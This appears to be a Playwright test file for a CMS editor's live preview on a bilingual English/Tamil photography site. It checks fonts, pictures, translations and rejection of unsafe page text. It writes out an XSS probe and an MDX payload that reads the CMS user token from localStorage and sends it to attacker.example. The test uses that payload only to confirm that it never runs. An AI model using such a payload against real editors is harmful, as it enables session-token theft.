// The editor's live preview at /admin, in Chromium against the built editor with the local backend on a copy of
// content/ (tests/support/editor.ts), under /admin's own headers: an English and a Tamil service page are drawn
// with the site's heading font, its pictures and the body's components; a typed heading shows within 2 s; a body
// the build would refuse is explained in words; home.yaml is drawn as the home page.
import fs from 'node:fs'
import path from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { parse as parseYaml } from 'yaml'
import { previewDrawn, previewOf as site, useEditor } from '../support/editor.ts'

const admin = useEditor()

/** Each picture's descriptions, by its path: the catalogue the site describes its pictures from. */
const catalogue = new Map(
  (
    parseYaml(fs.readFileSync(path.join(import.meta.dirname, '../../content/images.yaml'), 'utf8')) as {
      src: string
      en: string
      ta: string
    }[]
  ).map((entry) => [entry.src, entry]),
)

/** Where screenshots of the pane go, when PREVIEW_SCREENSHOTS names a folder. */
const SHOTS = process.env.PREVIEW_SCREENSHOTS

/** The editor on one entry, at a laptop's width. */
const openEntry = async (entry: string) => (await admin.openEntry(entry, { viewport: { width: 1400, height: 1000 } })).page

/** What a visitor would see of the drawn page, once the body's check lists are drawn too. */
async function drawn(page: Page) {
  await site(page).locator('.check-list li').first().waitFor({ timeout: 20_000 })
  return previewDrawn(page)
}

async function shoot(page: Page, name: string) {
  if (!SHOTS) return
  fs.mkdirSync(SHOTS, { recursive: true })
  for (const width of ['Phone', 'Laptop']) {
    await page
      .frameLocator('#preview-pane')
      .getByRole('button', { name: new RegExp(`^${width}`) })
      .click()
    await page.waitForTimeout(800)
    await page.locator('#preview-pane').screenshot({ path: path.join(SHOTS, `${name}-${width.toLowerCase()}.png`) })
  }
}

describe("the editor's live preview", () => {
  it("draws an English service page with the heading font, loaded pictures and the body's components; a typed heading shows within 2 s", async () => {
    const page = await openEntry('pages/entries/services-birthday-photography')
    const before = await drawn(page)
    expect(before).toMatchObject({ heading: 'Birthday Photography', family: 'Marcellus', fontLoaded: true, enquiry: true, lang: 'en' })
    expect(before.checkItems).toBeGreaterThan(2)
    expect(before.pictures).toBeGreaterThan(1)
    expect(before.loaded).toBe(before.pictures)
    expect(before.described.map(([src, alt]) => [src, alt])).toEqual(
      before.described.map(([src]) => [src, catalogue.get(src.replace(/^.*\/admin\/pictures\//, ''))?.en]),
    )
    await shoot(page, 'english-birthday-photography')

    const heading = page.getByLabel('Heading', { exact: true }).first()
    await heading.fill('Birthday Photography by Thoranam')
    const typed = Date.now()
    await expect
      .poll(() => site(page).locator('h1').textContent(), { timeout: 2000, interval: 50 })
      .toBe('Birthday Photography by Thoranam')
    console.log(`preview: typed heading shown after ${Date.now() - typed} ms`)
    await page.context().close()
  })

  it('draws a Tamil service page: its words over the English pictures and links, in the Tamil heading font', async () => {
    const page = await openEntry('pages_ta/entries/ta-services-birthday-photography')
    const shown = await drawn(page)
    expect(shown).toMatchObject({ heading: 'பிறந்தநாள் புகைப்படம்', enquiry: true, lang: 'ta-IN' })
    expect(shown.family).toMatch(/Tamil/)
    expect(shown.fontLoaded).toBe(true)
    expect(shown.pictures).toBeGreaterThan(1)
    expect(shown.loaded).toBe(shown.pictures)
    // Each picture described as the site describes it: its one Tamil description in the catalogue, not a copy.
    expect(shown.described.map(([src, alt]) => [src, alt])).toEqual(
      shown.described.map(([src]) => [src, catalogue.get(src.replace(/^.*\/admin\/pictures\//, ''))?.ta]),
    )
    // The English page's pictures, and its links led to the Tamil edition.
    const crumbs = await site(page)
      .locator('nav a')
      .evaluateAll((links) => links.map((a) => a.getAttribute('href')))
    expect(crumbs).toContain('/ta/services/birthday')
    await shoot(page, 'tamil-birthday-photography')

    // A word the translation does not give shows in English, marked, and is counted above the page.
    await page.getByLabel('Heading', { exact: true }).first().fill('')
    await expect.poll(() => site(page).locator('h1').textContent(), { timeout: 2000, interval: 50 }).toBe('[EN] Birthday Photography')
    expect(
      await site(page)
        .getByText(/^1 word is not in Tamil yet/)
        .count(),
    ).toBe(1)
    await page.context().close()
  })

  it('marks a component of the English text that the Tamil text has not: what a Tamil reader does not see yet', async () => {
    // The Tamil text without one of its components (its first, from the file), as when the English gained one.
    const file = path.join(admin.editor.repo, 'content/ta/pages/services/birthday/photography.mdx')
    const before = fs.readFileSync(file, 'utf8')
    const name = /<([A-Z][A-Za-z]*)/.exec(before.split(/^---$/m).slice(2).join('---'))![1]
    // The component whole: written as one tag (<ContactCards />) or with its content (<CheckList>…</CheckList>).
    const without = before.replace(new RegExp(`\\n<${name}\\b(?:[^>]*/>|[\\s\\S]*?</${name}>)\\n`), '\n')
    expect(without).not.toBe(before)
    fs.writeFileSync(file, without)
    try {
      const page = await openEntry('pages_ta/entries/ta-services-birthday-photography')
      await site(page).locator('h1').waitFor({ timeout: 20_000 })
      const note = site(page).getByRole('status').filter({ hasText: 'In the English text only' })
      await expect
        .poll(() => note.textContent().catch(() => ''), { timeout: 5000 })
        .toContain(`[EN] <${name}> (content/pages/services/birthday/photography.mdx)`)
      await page.context().close()
    } finally {
      fs.writeFileSync(file, before)
    }
    // With the component in the Tamil text, nothing is marked.
    const page = await openEntry('pages_ta/entries/ta-services-birthday-photography')
    await drawn(page)
    expect(await site(page).getByText('In the English text only').count()).toBe(0)
    await page.context().close()
  })

  it('explains a body the build would refuse, in words, and draws the rest of the page', async () => {
    const page = await openEntry('pages/entries/services-birthday-photography')
    await drawn(page)
    const body = page.locator('[data-slate-editor]').last()
    await body.click()
    await page.keyboard.press('Control+End')
    await page.keyboard.type('\n\n<script>alert(1)</script>\n')
    const note = site(page).getByRole('alert')
    // The preview follows the typing: while "<scrip" is half typed, the note names that; it ends on <script>.
    await expect.poll(() => note.textContent().catch(() => ''), { timeout: 5000 }).toContain("<script>: a page's text cannot run code")
    expect(await note.textContent()).toContain('The text of the page cannot be shown')
    expect(await site(page).locator('h1').textContent()).toBe('Birthday Photography')
    expect(await site(page).locator('script').count()).toBe(0)
    await page.context().close()
  })

  it('opening an entry whose text starts with a --- block runs none of it: the note names the code, the token stays', async () => {
    // The text after the front-matter starts with a block a reader of the body alone took for front-matter.
    const file = path.join(admin.editor.repo, 'content/pages/aboutus.mdx')
    const source = fs.readFileSync(file, 'utf8')
    const end = source.indexOf('\n---\n', 4) + 5
    const theft =
      "{(window.top.__stolen = localStorage.getItem('decap-cms-user'), window.top.location.assign('https://attacker.example/?t=' + window.top.__stolen), null)}"
    fs.writeFileSync(file, `${source.slice(0, end)}---\n${theft}\n---\n\n${source.slice(end)}`)
    const elsewhere: string[] = []
    const { page } = await admin.openEntry('pages/entries/aboutus', {
      viewport: { width: 1400, height: 1000 },
      beforeLoad: (page) =>
        page.on('request', (request) => {
          if (!request.url().startsWith(admin.editor.base) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
        }),
    })
    const note = site(page).getByRole('alert')
    // What the editor shows: the note, or, when the text's code ran, that it ran (and the window's address if it left).
    const shown = async () => {
      const ran = await page
        .evaluate(() =>
          '__stolen' in window ? `the text's code ran: __stolen = ${String((window as { __stolen?: unknown }).__stolen)}` : '',
        )
        .catch(() => `the editor left its origin: ${page.url()}`)
      return ran || ((await note.textContent({ timeout: 1000 }).catch(() => '')) ?? '')
    }
    await expect.poll(shown, { timeout: 20_000 }).toContain('Line 2 of the text: {(window.top.__stolen')
    expect(await site(page).locator('h1').textContent()).toBe('About Us')
    expect(await page.evaluate(() => (window as unknown as { __stolen?: string }).__stolen)).toBeUndefined()
    expect(page.url()).toMatch(new RegExp(`^${admin.editor.base}/admin/`))
    expect(elsewhere).toEqual([])
    await page.context().close()
  })

  it('draws a page made with New page as it will be saved: its heading, banner, the crumb to its event and its text', async () => {
    const page = await openEntry('event_pages/new')
    await page.getByLabel('Event', { exact: true }).click()
    await page.getByText('Wedding (/services/wedding/…)', { exact: true }).click()
    await page.getByLabel('Address (last part)').fill('flower-decoration')
    await page.getByLabel('Heading', { exact: true }).fill('Wedding Flower Decoration')
    page.once('dialog', (dialog) => dialog.accept(`${admin.editor.base}/admin/pictures/decoration/decoration-05.jpg`))
    await page.getByRole('button', { name: 'Insert from URL' }).first().click()
    await page.locator('[data-slate-editor]').last().click()
    await page.keyboard.type('Our florists string the jasmine at dawn.')
    const shown = await previewDrawn(page)
    expect(shown).toMatchObject({ heading: 'Wedding Flower Decoration', family: 'Marcellus', fontLoaded: true, lang: 'en' })
    expect(shown.pictures).toBeGreaterThan(0)
    expect(shown.loaded).toBe(shown.pictures)
    expect(shown.described[0]).toEqual([
      expect.stringMatching(/\/admin\/pictures\/decoration\/decoration-05\.jpg$/),
      catalogue.get('decoration/decoration-05.jpg')?.en,
    ])
    const crumbs = await site(page)
      .locator('nav a')
      .evaluateAll((links) => links.map((a) => [a.textContent, a.getAttribute('href')]))
    expect(crumbs).toContainEqual(['Wedding', '/services/wedding'])
    await site(page).getByText('Our florists string the jasmine at dawn.').waitFor({ timeout: 5000 })
    await shoot(page, 'new-page')
    await page.context().close()
  })

  it("draws home.yaml as the home page's widgets", async () => {
    const page = await openEntry('data/entries/home')
    const frame = site(page)
    await frame.locator('.tile-grid .tile').first().waitFor({ timeout: 20_000 })
    expect(await frame.locator('.tile-grid .tile').count()).toBe(6)
    expect(await frame.locator('.project-grid img').count()).toBe(6)
    await page.context().close()
  })
})
